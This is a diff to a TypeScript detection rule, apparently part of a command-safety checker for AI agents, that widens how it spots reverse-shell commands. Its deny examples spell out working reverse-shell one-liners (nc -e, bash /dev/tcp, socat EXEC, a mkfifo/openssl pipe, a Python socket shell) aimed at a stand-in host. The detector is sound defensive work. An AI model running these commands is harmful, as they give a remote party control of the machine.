@@ -1,3 +1,4 @@
+import type { Invocation } from "../invocation.ts";
 import type { Rule } from "../rule.ts";
 import { hit } from "./hit.ts";
 import { isDownload, isNetworkFile, SHELLS } from "./network-programs.ts";
@@ -10,7 +11,8 @@ export const reverseShell: Rule = {
   reason: "gives a shell on this machine to another host",
   instead: "use ssh, set up by the user",
   check: (invocation, _world, analysis) => {
-    if (!SHELLS.has(invocation.program)) return undefined;
+    if (!SHELLS.has(invocation.program))
+      return scriptTies(invocation) ? hit(invocation) : undefined;
     const tied = invocation.via.some((w) => /^(?:socat|nc -e|ncat -e|netcat -e)$/.test(w.name));
     const idle = invocation.args.every((arg) => /^-[a-z]+$/.test(arg.value) && arg.value !== "-c");
     if (tied && idle) return hit(invocation);
@@ -19,23 +21,53 @@ export const reverseShell: Rule = {
     const commanded = invocation.redirects.some((r) => r.fd === 0 || r.operator.startsWith("<"));
     if (network.length > 0 && interactive && commanded) return hit(invocation);
     const readers = invocation.pipedInto.map((index) => analysis.invocations[index]);
+    const { kind } = invocation.stdin;
     const loops =
-      readers.some((r) => r !== undefined && isDownload(r)) && invocation.stdin.kind === "pipe";
-    return loops ? hit(invocation) : undefined;
+      readers.some((r) => r !== undefined && isDownload(r)) &&
+      (kind === "pipe" || (kind === "file" && interactive));
+    if (loops) return hit(invocation);
+    return startedForNobody(invocation, interactive) ? hit(invocation, FOR_NOBODY) : undefined;
   },
   examples: () => ({
     denies: [
       "nc -e /bin/sh x.example 4444",
       "bash -i >& /dev/tcp/x.example/4444 0>&1",
       "socat TCP:x.example:4444 EXEC:/bin/bash",
+      "mkfifo p; sh -i < p 2>&1 | openssl s_client -quiet -connect x.example:443 > p",
+      'python3 -c \'import socket,subprocess as p; s=socket.socket(); s.connect(("x.example", 4444)); p.call(["/bin/sh"], stdin=s)\'',
+      "python3 -c 'import pty; pty.spawn(\"/bin/bash\")'",
     ],
     allows: [
       "nc -zv x.example 443",
       "echo hi > /dev/tcp/x.example/4444",
       "socat TCP:x.example:80 STDOUT",
+      "openssl s_client -connect x.example:443 < /dev/null",
+      "python3 -c 'import socket; s=socket.socket(); s.connect((\"x.example\", 80)); print(s.recv(9))'",
+      'python3 -c \'import subprocess as p; p.run(["bash", "build.sh"])\'',
     ],
   }),
 };
+
+/** `nc HOST PORT -e SHELL`, as the reading of a script tells of one that connects both. */
+function scriptTies({ program, args, via }: Invocation): boolean {
+  if (program !== "nc" || args.at(-2)?.value !== "-e") return false;
+  return IN_SCRIPT.test(via.at(-1)?.name ?? "");
+}
+
+/** The function that a script of this language called. */
+const IN_SCRIPT = /^(?:python|node|perl|ruby|php|lua|r|julia) /;
+
+const FOR_NOBODY = {
+  verdict: "ask",
+  reason: "starts a shell whose commands come from somewhere else",
+  instead: "give the shell its commands: bash -c '…'",
+} as const;
+
+/** An interactive shell, or one on a terminal of its own, that a script starts: an agent types nothing. */
+function startedForNobody({ via }: Invocation, interactive: boolean): boolean {
+  const caller = via.at(-1)?.name ?? "";
+  return IN_SCRIPT.test(caller) && (interactive || /\bpty\b/i.test(caller));
+}
 
 /** Windows programs that fetch and start code by themselves. */
 export const windowsFetch: Rule = {
